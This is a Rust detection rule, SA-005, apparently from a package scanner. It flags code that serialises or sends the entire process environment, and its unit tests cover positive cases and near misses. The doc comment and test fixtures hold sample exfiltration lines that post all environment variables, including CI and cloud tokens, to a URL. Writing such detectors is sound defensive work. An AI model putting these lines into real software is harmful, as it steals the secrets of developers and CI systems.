//! `SA-005` environment dump (capability). Finds the whole environment read as one value and
//! serialised or sent: `JSON.stringify(process.env)`, `str(os.environ)`, `dict(os.environ)`.
//!
//! Why: CI tokens, cloud keys and registry tokens live in the environment; a package that
//! takes all of it is collecting, not configuring. Example: `fetch(u, {body:
//! JSON.stringify(process.env)})`. Known false positives: debugging helpers that print the
//! environment; counted beside a network sink.

use super::{Ctx, Hit, Kind, Rule};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule = Rule {
    id: "SA-005",
    name: "environment dump",
    kind: Kind::Capability,
    behaviour: Behaviour::Infostealer,
    weight: 3,
};

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    if let Some(line) = ctx.facts.env_dumps.first() {
        out.push(Hit::new(&RULE, *line, "the whole environment serialised"));
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn fires_on_whole_environment() {
        assert!(fired("a.js", "const d = JSON.stringify(process.env)", LIBRARY).contains(&"SA-005"));
        assert!(fired("a.py", "import os, json\njson.dumps(os.environ)\n", LIBRARY).contains(&"SA-005"));
        let inside = "import os, requests\nrequests.post(u, json={'host': h, 'env': dict(os.environ)})\n";
        assert!(fired("a.py", inside, LIBRARY).contains(&"SA-005"));
        assert!(
            fired("a.py", "import os, requests\nrequests.post(u, json={**os.environ})\n", LIBRARY).contains(&"SA-005")
        );
    }

    #[test]
    fn near_misses() {
        assert!(
            !fired("a.js", "const home = process.env.HOME; spawn('x', [], { env: process.env })", LIBRARY)
                .contains(&"SA-005")
        );
        assert!(!fired("a.py", "import os\nos.environ.get('HOME')\n", LIBRARY).contains(&"SA-005"));
        let headers = "import requests\nrequests.post(u, headers={**session.headers, 'A': 'b'}, data=d)\n";
        assert!(!fired("a.py", headers, LIBRARY).contains(&"SA-005"));
        let one = "import os, requests\nrequests.post(u, json={'home': os.environ.get('HOME')})\n";
        assert!(!fired("a.py", one, LIBRARY).contains(&"SA-005"));
    }
}
